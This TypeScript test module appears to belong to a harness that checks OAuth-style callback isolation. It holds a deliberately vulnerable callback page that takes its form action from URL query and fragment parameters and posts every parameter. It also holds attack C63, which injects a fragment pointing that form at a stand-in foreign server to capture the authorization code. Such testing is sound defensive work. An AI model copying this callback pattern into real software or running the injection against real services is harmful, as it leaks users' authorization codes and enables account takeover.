import type { Attack } from '../attack.ts';
import { authorizeUrl } from './run-own-flow.ts';
import { comesTrue } from '../until.ts';

/**
 * Creates an answer of a callback origin that does what it must not: its document mixes two sources, takes its action from them,
 * and passes on every name.
 */
export function weakCallback(appCallback: string): Response {
  return new Response(
    `<!doctype html><title>Callback</title><form method="post"></form><script>
const all = new URLSearchParams(location.search.slice(1) + '&' + location.hash.slice(1));
const form = document.querySelector('form');
form.action = all.get('action') ?? ${JSON.stringify(appCallback)};
for (const [name, value] of all) form.append(Object.assign(document.createElement('input'), { name, value }));
HTMLFormElement.prototype.submit.call(form);
</script>`,
    { headers: { 'content-type': 'text/html' } },
  );
}

/** Attacks on what an isolated callback depends on; each variant is a part of the naive victim. */
export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
  {
    id: 'C63',
    title: 'runs a flow with a fragment that the redirects carry along, and names a server of its own there',
    scenario: '5.1.3',
    naive: 'weak-callback',
    tokenward: 'isolated',
    act: async (scene) => {
      const { foreign } = scene.servers;
      const before = foreign.requests.length;
      const action = new URLSearchParams({ action: `${foreign.origin}/take` });
      await scene.tab.goto(`${authorizeUrl(scene)}#${action}`).catch(() => {});
      await comesTrue(
        async () => foreign.requests.slice(before).some(({ body }) => body.includes('code=')),
        scene.patienceMs,
      );
      return { seen: [] };
    },
  },
];
